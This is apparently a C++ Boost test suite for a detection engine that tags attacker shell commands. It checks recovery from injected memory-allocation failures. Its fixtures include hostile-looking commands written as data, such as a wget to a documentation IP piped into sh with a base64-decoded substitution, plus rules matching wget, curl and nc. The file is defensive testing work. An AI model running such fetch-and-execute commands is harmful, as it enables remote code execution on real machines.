// Every allocation on the way of a line and of a rule fails once: the process continues, no neighbour is lost, and
// nothing is duplicated.
#include "support/allocation_fault.hpp"

#include "host/input_pipeline.hpp"
#include "host/rule_announcer.hpp"
#include "input/file_source.hpp"
#include "input/stream_source.hpp"

#include "store/change_feed.hpp"
#include "support/definitions.hpp"
#include "support/events.hpp"
#include "support/followed_store.hpp"
#include "support/temporary_directory.hpp"
#include "support/virtual_loop.hpp"

#include <rulehost/json_text.hpp>
#include <rulehost/rule_follower.hpp>
#include <rulehost/task_group.hpp>

#include <functional>
#include <map>
#include <memory>
#include <new>
#include <set>
#include <string>
#include <utility>
#include <vector>

using namespace rulehost;
using test::allocation_fault;
using test::at_every_allocation;
using namespace std::chrono_literals;
namespace asio = boost::asio;

namespace {

/// Keeps the ids of its tags once all of them became text.
class text_sink final : public tag_sink {
public:
    asio::awaitable<void> write(std::vector<tag> const& tags) override {
        std::string text;
        std::vector<std::string> more;
        for (auto const& each : tags) {
            append_json(text, to_json(each));
            more.push_back(each.source_id + " " + each.rule_id);
        }
        ids.reserve(ids.size() + more.size());
        std::ranges::move(more, std::back_inserter(ids));
        co_return;
    }
    std::vector<std::string> ids;
};

std::string line(std::string const& id, std::string const& text = "wget http://192.0.2.1/x") {
    return R"({"source_kind":"command","source_id":")" + id +
        R"(","attacker_uuid":"a-long-name-of-an-attacker","session_id":"a session","payload":{"command_text":")" +
        text + "\"}}\n";
}

rule_snapshot some_rules() {
    rule_snapshot snapshot;
    snapshot.revision = 1;
    for (auto const& rule :
         {test::rule_matching("{pattern: wget}", "R1"), test::rule_matching("{pattern: 'w.*t\\b'}", "R2"),
          test::rule_matching("{window: {of: {pattern: wget}, count: {at_least: 3}, within: 5m, "
                              "group_by: [session_id], repeat: true}}",
                              "R3")})
        snapshot.rules.push_back(std::make_shared<compiled_rule>(rule, rule_state{}));
    return snapshot;
}

/// Holds `some_rules`, and later one change.
class store_of_one_change final : public test::followed_store {
public:
    explicit store_of_one_change(rule_change change) : change_(std::move(change)) {}

    asio::awaitable<rule_snapshot> load_compiled() override {
        auto snapshot = some_rules();
        if (published_) {
            snapshot.revision = change_.revision;
            if (change_.what() == rule_change::kind::definition)
                snapshot.rules.push_back(std::make_shared<compiled_rule>(change_.definition(), rule_state{}));
            else
                snapshot.states[change_.rule_id] = change_.state();
        }
        co_return snapshot;
    }
    change_subscription subscribe_changes(std::size_t) override { return feed_.subscribe(2); }

    void publish() {
        published_ = true;
        feed_.publish(change_);
    }

private:
    rule_change change_;
    bool published_ = false;
    change_feed feed_;
};

struct faulty : test::virtual_loop {
    test::temporary_directory directory;
};

asio::awaitable<void> read_all(input_pipeline& pipeline, tag_writer& writer, bool& done) {
    co_await pipeline.run();
    co_await writer.drain();
    done = true;
}

} // namespace

BOOST_FIXTURE_TEST_SUITE(allocation_faults, faulty)

BOOST_AUTO_TEST_CASE(a_line_without_memory_is_a_dead_letter_and_its_neighbours_are_tagged) {
    std::vector<std::string> const ids{"first", "a source id of some length", "third", "fourth", "fifth"};
    std::string text;
    for (auto const& id : ids)
        text += line(id);
    directory.write("log", text + "no event at all, and of some length\n");
    auto const log = (directory / "log").string();
    auto const as_stream = [&]() -> std::shared_ptr<event_source> {
        return std::make_shared<stream_source>(byte_stream::reading(loop.get_executor(), log));
    };
    auto const as_file = [&]() -> std::shared_ptr<event_source> {
        file_source_options options;
        options.path = log;
        options.at_end = file_source_options::end::stop;
        options.input = "the key of a position, and of some length";
        return std::make_shared<file_source>(loop.get_executor(), time, std::move(options));
    };
    struct setting {
        std::function<std::shared_ptr<event_source>()> open;
        std::size_t threads;
    };
    for (auto const& [open, threads] : {setting{as_stream, 1}, setting{as_stream, 2}, setting{as_file, 1}}) {
        auto const allocations = at_every_allocation([&](long n, bool& happened) {
            engine rules;
            rules.replace(some_rules());
            host_statistics counts;
            counts.inputs.resize(1);
            text_sink sink;
            parallel_evaluator evaluator(rules, threads, time);
            tag_writer_options writing;
            writing.printed = &sink;
            tag_writer writer(loop.get_executor(), loop.get_executor(), time, writing);
            pipeline_parts const parts{evaluator, time, writer, counts, {}, {}};
            input_pipeline pipeline(parts, open(), event_format::event, counts.inputs[0]);
            task_group tasks(loop.get_executor());
            tasks.spawn("writer", writer.run());
            time.settle();
            bool done = false;
            tasks.spawn("pipeline", read_all(pipeline, writer, done));
            {
                allocation_fault const fault(n);
                time.advance(1min);
                happened = fault.happened();
            }
            tasks.cancel();
            run(tasks.join());
            BOOST_TEST(done);
            BOOST_TEST(counts.inputs[0].lines == ids.size() + 1);
            std::multiset<std::string> const found(sink.ids.begin(), sink.ids.end());
            std::size_t missing = 0;
            for (auto const& id : ids)
                for (auto const* const rule : {"R1", "R2"}) {
                    auto const times = found.count(id + " " + rule);
                    BOOST_TEST(times <= 1u);
                    missing += times == 0 && rule == std::string("R1");
                }
            BOOST_TEST(missing <= 1u);
            BOOST_TEST(counts.inputs[0].rejected >= 1 + missing);
            BOOST_TEST(counts.inputs[0].rejected <= 2u);
            BOOST_TEST(writer.counts().waiting == 0u);
            if (!happened) {
                BOOST_TEST(missing == 0u);
                BOOST_TEST(found.count("fifth R3") == 1u);
            }
        });
        BOOST_TEST(allocations > 100);
        BOOST_TEST_MESSAGE(allocations << " allocations with " << threads << " threads");
    }
}

BOOST_AUTO_TEST_CASE(a_step_without_memory_is_lost_and_costs_no_tag) {
    std::vector<std::string> const texts{line("first"), line("a source id of some length"), line("third")};
    std::vector<event_batch::line> lines;
    for (auto const& text : texts)
        lines.push_back({lines.size() + 1, text, {}, {}});
    struct losses {
        std::size_t lines = 0;
        std::uint64_t steps = 0;
    };
    auto const losses_of = [&](bool keeps_steps) {
        losses all;
        at_every_allocation([&](long n, bool& happened) {
            engine rules;
            rules.replace(some_rules());
            event_reader reader(event_format::event);
            std::vector<parallel_evaluator::line_reader> const readers{
                [&](event_batch::line const& each, time_point arrived) { return reader.read(each.text, arrived); }};
            parallel_evaluator evaluator(rules, 1, time, {}, keeps_steps);
            evaluated_lines result;
            {
                allocation_fault const fault(n);
                evaluator.evaluate(lines, 0, readers, result);
                happened = fault.happened();
            }
            all.lines += result.rejected.size();
            all.steps += result.lost_steps;
            if (keeps_steps)
                BOOST_TEST(result.steps.size() + result.lost_steps + result.rejected.size() == lines.size());
        });
        return all;
    };
    losses_of(false); // what is allocated once in the process
    auto const without = losses_of(false);
    auto const with = losses_of(true);
    BOOST_TEST(without.lines > 0u);
    BOOST_TEST(with.lines == without.lines);
    BOOST_TEST(with.steps > 0u);
}

BOOST_AUTO_TEST_CASE(a_change_without_memory_leaves_the_rules_as_they_were) {
    auto const added = test::rule_matching("{pattern: curl}", "R9");
    auto const replaced = test::rule_matching("{pattern: nc}", "R1");
    std::vector<rule_change> const changes{
        rule_change(2, "R9", added), rule_change(2, "R1", replaced),
        rule_change(2, "R1", rule_state::disabled("a noisy rule, and a long reason")),
        rule_change(2, "R2", std::shared_ptr<rule_definition const>())};
    for (auto const& change : changes) {
        auto const allocations = at_every_allocation([&](long n, bool& happened) {
            engine rules;
            rules.replace(some_rules());
            auto const before = rules.digest();
            bool failed = false;
            {
                allocation_fault const fault(n);
                try {
                    rules.apply(change);
                } catch (std::exception const&) { // Vectorscan reports it in its own words
                    failed = true;
                }
                happened = fault.happened();
            }
            BOOST_TEST((rules.digest() == before) == failed);
            BOOST_TEST((rules.revision() == 1u) == failed);
            rules.apply(change); // it works now, whichever allocation failed
            BOOST_TEST(rules.digest() != before);
            BOOST_TEST(rules.revision() == 2u);
            auto const tags = rules.evaluate(test::command("curl wget nc x"), test::noon).value().tags;
            BOOST_TEST(tags.size() >= 1u);
        });
        BOOST_TEST(allocations > 3);
    }
}

BOOST_AUTO_TEST_CASE(a_reload_without_memory_leaves_the_rules_as_they_were) {
    auto next = some_rules();
    next.revision = 2;
    next.rules.pop_back();
    next.states["R1"] = rule_state::disabled("a noisy rule, and a long reason");
    at_every_allocation([&](long n, bool& happened) {
        engine rules;
        rules.replace(some_rules());
        auto const before = rules.digest();
        bool failed = false;
        {
            allocation_fault const fault(n);
            try {
                rules.replace(next);
            } catch (std::exception const&) {
                failed = true;
            }
            happened = fault.happened();
        }
        BOOST_TEST((rules.digest() == before) == failed);
        rules.replace(next);
        BOOST_TEST(rules.digest() != before);
    });
}

BOOST_AUTO_TEST_CASE(a_follower_without_memory_for_a_change_catches_up) {
    std::vector<rule_change> const changes{
        rule_change(2, "R9", test::rule_matching("{pattern: curl}", "R9")),
        rule_change(2, "R1", rule_state::disabled("a noisy rule, and a long reason"))};
    for (auto const& change : changes) {
        auto const allocations = at_every_allocation([&](long n, bool& happened) {
            store_of_one_change store(change);
            engine rules;
            std::vector<std::string> failures;
            rule_follower::observer observer;
            observer.failed = [&](std::string const& line) { failures.push_back(line); };
            rule_follower follower(rules, store, observer);
            run(follower.load());
            task_group tasks(loop.get_executor());
            tasks.spawn("follower", follower.run());
            time.settle();
            store.publish();
            {
                allocation_fault const fault(n);
                time.settle();
                happened = fault.happened();
            }
            if (rules.revision() != 2u) { // the reload lacked memory too: the next change repeats it
                BOOST_TEST(failures.size() == 1u);
                store.publish();
                time.settle();
            }
            BOOST_TEST(rules.revision() == 2u);
            BOOST_TEST(rules.rules().size() == 3u + (change.what() == rule_change::kind::definition));
            tasks.cancel();
            run(tasks.join());
        });
        BOOST_TEST(allocations > 3);
    }
}

BOOST_AUTO_TEST_CASE(an_announcement_without_memory_is_counted_and_costs_no_other) {
    struct broker final : message_publisher {
        asio::awaitable<std::vector<refused_message>> publish(std::span<outgoing_message const> messages) override {
            for (auto const& each : messages)
                sent.push_back(each.id);
            co_return std::vector<refused_message>();
        }
        std::vector<std::string> sent;
    };
    auto const allocations = at_every_allocation([&](long n, bool& happened) {
        broker publisher;
        bus listeners;
        rule_announcer announcer(
            time, listeners, &publisher, [] { return std::string("the store of a long id"); },
            [](std::string const&) {}, [] { return 0.5; });
        task_group tasks(loop.get_executor());
        tasks.spawn("announcer", announcer.run());
        time.settle();
        rule_change const change(1, "a rule with quite a long id", nullptr);
        {
            allocation_fault const fault(n);
            announcer.changed(change);
            time.advance(1min);
            happened = fault.happened();
        }
        announcer.changed(rule_change(2, "R2", nullptr));
        time.advance(1min);
        BOOST_REQUIRE(!publisher.sent.empty());
        BOOST_TEST(publisher.sent.back() == "reloaded-the store of a long id-2-R2");
        BOOST_TEST(publisher.sent.size() + announcer.dropped() >= 2u);
        tasks.cancel();
        run(tasks.join());
    });
    BOOST_TEST(allocations > 10);
}

BOOST_AUTO_TEST_CASE(a_task_that_finds_no_memory_leaves_its_group_joinable) {
    auto const allocations = at_every_allocation([&](long n, bool& happened) {
        task_group tasks(loop.get_executor());
        bool spawned = false;
        {
            std::string const name = "a task with a long name";
            allocation_fault const fault(n);
            try {
                for (int i = 0; i < 3; ++i)
                    tasks.spawn(name, time.sleep_until(time.now() + 1h));
                spawned = true;
            } catch (std::bad_alloc const&) {
                tasks.cancel();
            }
            happened = fault.happened();
        }
        BOOST_TEST(spawned != happened);
        tasks.cancel();
        run(tasks.join());
    });
    BOOST_TEST(allocations >= 3);
}

BOOST_AUTO_TEST_CASE(evaluation_after_one_without_memory_comes_to_the_same) {
    engine rules;
    rules.replace(some_rules());
    auto const observed = test::command("wget http://192.0.2.1/x \"quoted\" | sh; $(echo d2dldA== | base64 -d)");
    auto const expected = rules.evaluate(observed, test::noon).value().tags.size();
    BOOST_TEST(expected >= 2u);
    at_every_allocation([&](long n, bool& happened) {
        engine fresh;
        fresh.replace(some_rules());
        evaluation scratch;
        {
            allocation_fault const fault(n);
            try {
                fresh.evaluate(observed, test::noon, scratch);
            } catch (std::bad_alloc const&) {
                // The expected failure.
            }
            happened = fault.happened();
        }
        BOOST_TEST((fresh.evaluate(observed, test::noon, scratch) == refusal::none));
        BOOST_TEST(scratch.tags.size() == expected);
    });
}

BOOST_AUTO_TEST_SUITE_END()
